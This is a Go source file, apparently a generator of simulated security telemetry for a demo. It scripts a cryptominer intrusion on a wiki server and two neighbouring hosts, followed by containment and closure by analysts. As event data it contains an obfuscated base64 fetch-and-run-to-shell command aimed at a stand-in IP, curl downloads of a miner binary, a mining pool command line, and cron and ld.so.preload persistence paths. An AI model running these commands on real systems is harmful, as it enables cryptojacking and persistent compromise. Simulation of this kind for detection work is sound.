package demo

import "time"

// miner: a flaw of the wiki's application runs commands; what they fetch mines, comes back
// by cron and the loader, and goes on to two neighbours. Found and cleaned up.
func miner(s *scene) {
	c := s.company
	at := s.at(6, 13, 27)
	dig(s, "wiki-01", at, true)
	dig(s, "web-05", at.Add(38*time.Minute), false)
	dig(s, "app-02", at.Add(51*time.Minute), false)
	for i, name := range []string{"wiki-01", "web-05", "app-02"} {
		h := c.host(name)
		s.people(at.Add(time.Duration(90+4*i)*time.Minute), "restricting "+name, func(d *desk) error {
			return d.act(h, "restrictCodeExecution", m{"Comment": "Stop the miner until the host is rebuilt."})
		})
		s.people(at.Add(time.Duration(26+i)*time.Hour), "lifting the restriction of "+name, func(d *desk) error {
			return d.act(h, "unrestrictCodeExecution", m{"Comment": "Rebuilt from image; application patched."})
		})
	}
	s.people(at.Add(30*time.Hour), "closing the miner", func(d *desk) error {
		return d.triage(c.host("wiki-01"), m{"status": "Resolved", "assignedTo": "b.okafor@" + domain, "classification": "TruePositive", "determination": "Malware",
			"comment": "Wiki patched, three hosts rebuilt, outgoing traffic of the DMZ limited to the proxy.", "tags": []string{"Cryptominer"}})
	})
}

func dig(s *scene, name string, at time.Time, first bool) {
	a := s.on(name, "miner", at)
	web := a.h.account("www-data", 33)
	var sh = a.begin("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -Dcatalina.base=/opt/wiki org.apache.catalina.startup.Bootstrap start", web, nil)
	if first {
		a.accept(sh, outside(31), 8090)
		sh = a.run(sh, "/usr/bin/bash", "bash -c {echo,Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjE0MS9pLnNofHNo}|{base64,-d}|bash")
	} else {
		sh = a.logon("deploy", 1200, s.company.host("wiki-01").ip, "wiki-01", "")
	}
	curl := a.run(sh, "/usr/bin/curl", "curl -s http://"+minerDrop+"/i.sh")
	a.connect(curl, minerDrop, 80, "")
	body := a.run(sh, "/usr/bin/bash", "bash")
	a.flush()
	a.after(8 * time.Second)
	bin := file("/tmp/kdevtmpfsi", "the miner", 2_910_208)
	get := a.run(body, "/usr/bin/curl", "curl -s -o /tmp/kdevtmpfsi http://"+minerDrop+"/k")
	a.connect(get, minerDrop, 80, "")
	a.file(get, "FileCreated", bin)
	a.run(body, "/usr/bin/chmod", "chmod 755 /tmp/kdevtmpfsi")
	k := a.payload(body, bin, "/tmp/kdevtmpfsi -o stratum+tcp://"+poolName+":3333 --donate-level 1", nil)
	a.resolve(k, poolName, minerPool)
	a.connect(k, minerPool, 3333, poolName)
	a.flush()
	a.after(20 * time.Second)
	a.file(body, "FileCreated", file("/etc/cron.d/.sysupd", "miner cron", 96))
	a.file(body, "FileCreated", file("/etc/ld.so.preload", "miner preload", 24))
	a.flush()
	for i := 1; i < 6; i++ {
		a.after(11 * time.Minute)
		a.connect(k, minerPool, 3333, poolName)
		a.flush()
	}
}
